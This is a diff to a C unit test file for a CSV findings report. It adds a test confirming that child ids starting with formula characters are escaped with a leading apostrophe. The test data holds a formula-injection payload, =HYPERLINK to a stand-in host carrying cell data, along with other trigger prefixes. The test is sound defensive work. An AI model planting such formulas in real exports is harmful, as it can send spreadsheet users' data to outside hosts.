@@ -1,7 +1,8 @@
 /*
  * Findings as CSV (report/findings_out.h), line by line: the agreed columns, row numbers of
  * every width, a child id that must be quoted and one in UTF-8 that need not be, a finding
- * about the return as a whole (no row, no child), fields from the columns at fault. Then a
+ * about the return as a whole (no row, no child), fields from the columns at fault, child
+ * ids that start like a spreadsheet formula (defused with a '). Then a
  * report long enough for the two-thread writer, streamed to a file, must be byte for byte
  * the report built in memory by one thread.
  */
@@ -94,6 +95,46 @@ static void lines_as_agreed(void **state)
     ret_release(&r);
 }
 
+/* A child id from the file that starts like a formula is written with a ' before it, so a
+ * spreadsheet shows it as text instead of running it (=HYPERLINK could send the reader's
+ * data away); one that merely holds = later is left alone. */
+static void formulas_are_defused(void **state)
+{
+    (void)state;
+    static const char *ids[] = {"=HYPERLINK(\"http://x.test/?\"&A1,\"open\")",
+                                "+1",
+                                "-2+3",
+                                "@SUM(A1)",
+                                "\t=1",
+                                "\r=1",
+                                "A=1"};
+    enum { N = sizeof ids / sizeof ids[0] };
+    struct ret r;
+    ret_init(&r, &kind);
+    struct findings f;
+    findings_init(&f);
+    for (int i = 0; i < N; i++) {
+        int32_t row = ret_add_row(&r, 0, i + 2);
+        ret_set(&r, 0, row, C_ID, ids[i], strlen(ids[i]));
+        add(&f, &r2, row, UINT64_C(1) << C_ID);
+    }
+    size_t len;
+    char *csv = csv_of(&r, &f, NULL, &len);
+    const char *want = "rule,severity,table,row,child,fields,message\n"
+                       "2A,query,Things,0,\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"open\"\")\","
+                       "ID,plain message\n"
+                       "2A,query,Things,1,'+1,ID,plain message\n"
+                       "2A,query,Things,2,'-2+3,ID,plain message\n"
+                       "2A,query,Things,3,'@SUM(A1),ID,plain message\n"
+                       "2A,query,Things,4,'\t=1,ID,plain message\n"
+                       "2A,query,Things,5,\"'\r=1\",ID,plain message\n"
+                       "2A,query,Things,6,A=1,ID,plain message\n";
+    assert_string_equal(csv, want);
+    free(csv);
+    findings_release(&f);
+    ret_release(&r);
+}
+
 /* 3 findings per row over 60,000 rows: 180,000 findings, past the two-thread writer's floor */
 static void a_long_report_to_a_file_is_the_same_bytes(void **state)
 {
@@ -135,6 +176,7 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(lines_as_agreed),
+        cmocka_unit_test(formulas_are_defused),
         cmocka_unit_test(a_long_report_to_a_file_is_the_same_bytes),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
